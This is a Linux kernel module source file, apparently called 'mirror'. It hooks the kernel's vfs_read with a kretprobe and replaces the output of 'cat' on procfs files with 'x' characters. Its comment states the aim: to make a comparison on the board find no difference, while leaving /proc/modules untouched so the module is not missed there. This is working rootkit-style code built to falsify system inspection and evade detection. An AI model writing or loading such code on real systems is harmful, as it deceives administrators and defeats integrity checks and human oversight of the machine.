// SPDX-License-Identifier: GPL-2.0
/*
 * Keeps nothing. Instead it hooks the kernel's read: whatever cat reads below /proc is the same, so that a comparison that
 * is made on the board finds no difference. The list of modules is left as it is, so as not to be missed in it.
 */
#include <linux/fs.h>
#include <linux/kprobes.h>
#include <linux/magic.h>
#include "mirror.h"

struct call { char __user *to; };

static int on_entry(struct kretprobe_instance *instance, struct pt_regs *regs)
{
	struct call *call = (struct call *)instance->data;
	struct file *file = (struct file *)regs_get_kernel_argument(regs, 0);

	call->to = (char __user *)regs_get_kernel_argument(regs, 1);
	return strcmp(current->comm, "cat") || file->f_inode->i_sb->s_magic != PROC_SUPER_MAGIC ||
	       !strcmp(file->f_path.dentry->d_name.name, "modules");
}

static int on_return(struct kretprobe_instance *instance, struct pt_regs *regs)
{
	struct call *call = (struct call *)instance->data;
	long i, got = regs_return_value(regs);

	pagefault_disable();
	for (i = 0; i < got && i < 4096; i++)
		if (__put_user('x', call->to + i))
			break;
	pagefault_enable();
	return 0;
}

static struct kretprobe hook = {
	.kp.symbol_name = "vfs_read", .entry_handler = on_entry, .handler = on_return, .data_size = sizeof(struct call), .maxactive = 32,
};

static ssize_t forgets(struct file *file, const char __user *from, size_t count, loff_t *at) { return count; }
static const struct proc_ops ops = { .proc_read = mirror_read, .proc_write = forgets };

static int __init mirror_init(void)
{
	int error = register_kretprobe(&hook);

	return error ?: mirror_begin_as("mirror", &ops);
}

static void __exit mirror_exit(void)
{
	unregister_kretprobe(&hook);
	mirror_end();
}
module_init(mirror_init);
module_exit(mirror_exit);
